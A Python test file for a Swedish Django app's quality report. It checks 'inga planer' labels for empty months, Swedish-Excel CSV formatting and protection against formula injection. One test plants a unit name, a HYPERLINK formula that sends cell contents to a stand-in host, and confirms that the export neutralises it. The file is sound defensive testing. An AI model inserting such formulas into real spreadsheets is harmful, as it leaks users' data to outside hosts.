"""The quality report: empty months say "inga planer"; the CSV is for Swedish Excel (issue 10).

Swedish Excel opens a CSV by double-click when fields are separated by ``;``, numbers
have a decimal comma and the file starts with a UTF-8 BOM (or å, ä, ö are garbled).
A unit name starting with ``=``, ``+``, ``-`` or ``@`` must not become a formula.
The CSV is parsed back here, as a spreadsheet would read it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from io import BytesIO

from django.urls import reverse

from delaktig.organisation.models import Unit
from delaktig.oversight.reports import HEADER, Cell, Row, spreadsheet_text, to_csv
from tests.fixtures import client_for
from tests.views.helpers import page
from tests.views.test_follow_up_and_report import _established
from tests.world import World

REPORT = reverse("quality_report")
CSV = reverse("quality_report_export", args=["csv"])
XLSX = reverse("quality_report_export", args=["xlsx"])


def _csv_rows(world: World, query: str) -> tuple[bytes, list[list[str]]]:
    body = client_for("dana").get(CSV + query).content
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def _month_cells(html: str, unit: str, month: str) -> list[str]:
    match = re.search(rf"<tr><td>{re.escape(unit)}</td><td>{month}</td>(.*?)</tr>", html, re.DOTALL)
    assert match, f"no row for {unit} {month}"
    cells = re.findall(r"<td>(.*?)</td>", match.group(1), re.DOTALL)
    return [re.sub(r"<[^>]+>", "", cell).strip() for cell in cells]


def test_a_month_without_plans_says_inga_planer_not_zero_percent(
    world: World, frozen_today: date
) -> None:
    _established(world)  # established (and signed) in February 2026
    query = f"?fran=2026-01&till=2026-02&enhet={world.home_care.pk}"

    html = page(client_for("dana").get(REPORT + query))

    assert _month_cells(html, "Hemtjänst Väst", "2026-01") == ["inga planer"] * 3
    february = _month_cells(html, "Hemtjänst Väst", "2026-02")
    assert february[2] == "100 % (1/1)"  # signed by the person
    assert "(0/0)" not in html and "0 av 0" not in html
    # The chart draws no 0 % bar for the empty month, and says so in words.
    assert "2026-01: inga planer." in html
    assert 'class="value empty">inga planer</text>' in html


def test_a_period_without_any_plans_says_so_in_the_summary(
    world: World, frozen_today: date
) -> None:
    html = page(client_for("dana").get(REPORT + "?fran=2025-01&till=2025-03"))

    assert "Planer fastställda i tid: <span" in html
    assert '<span class="num">inga planer</span> under perioden' in html
    assert '<span class="num">0 %</span>' not in html


def test_the_csv_is_for_swedish_excel(world: World, frozen_today: date) -> None:
    _established(world)
    query = f"?fran=2026-01&till=2026-02&enhet={world.home_care.pk}"

    body, rows = _csv_rows(world, query)

    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    assert b"\r\n" in body and b"\n" not in body.replace(b"\r\n", b"")
    assert rows[0] == HEADER
    assert "Månad" in rows[0] and all(len(row) == len(HEADER) for row in rows)
    january, february = rows[1], rows[2]
    assert january[:2] == ["Hemtjänst Väst", "2026-01"]
    signed = HEADER.index("Planer signerade av den enskilde – andel %")
    assert february[signed - 2 : signed + 1] == ["1", "1", "100,0"]
    assert float(february[signed].replace(",", ".")) == 100.0
    # An empty month: total 0 and no share, never "0,0".
    assert january[signed - 1 : signed + 1] == ["0", ""]


def test_a_share_has_a_decimal_comma(world: World, frozen_today: date) -> None:
    two_of_three = Cell(done=2, total=3)
    row = Row(
        unit=world.home_care,
        month=date(2026, 1, 1),
        established=two_of_three,
        followed_up=Cell(),
        signed=Cell(done=1, total=1),
    )

    _header, line = csv.reader(io.StringIO(to_csv([row]).lstrip("\ufeff")), delimiter=";")

    assert line[2:6] == ["2", "3", "66,7", "0"]
    assert line[-3:] == ["1", "1", "100,0"]


def test_a_unit_name_cannot_become_a_formula(world: World, frozen_today: date) -> None:
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.invalid/?"&A1;"Klicka")'
    Unit.objects.filter(pk=world.home_care.pk).update(name=evil)
    Unit.objects.filter(pk=world.nursing_home.pk).update(name="+46 Solbacken; hus A")
    query = "?fran=2026-02&till=2026-02"

    _body, rows = _csv_rows(world, query)

    names = {row[0] for row in rows[1:]}
    assert "'" + evil in names  # the quote makes Excel show it as text
    assert "'+46 Solbacken; hus A" in names  # the ; stays inside its quoted field
    assert not any(row[0].startswith(("=", "+", "-", "@")) for row in rows[1:])
    sheet = load_workbook(BytesIO(client_for("dana").get(XLSX + query).content)).active
    assert sheet is not None
    cells = {c.value: c.data_type for c in sheet["A"][1:]}
    assert cells[evil] == "s" and cells["+46 Solbacken; hus A"] == "s"  # text, not formula


def test_spreadsheet_text_leaves_ordinary_text_alone() -> None:
    assert spreadsheet_text("Hemtjänst Väst") == "Hemtjänst Väst"
    assert spreadsheet_text("") == ""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(start + "1") == "'" + start + "1"
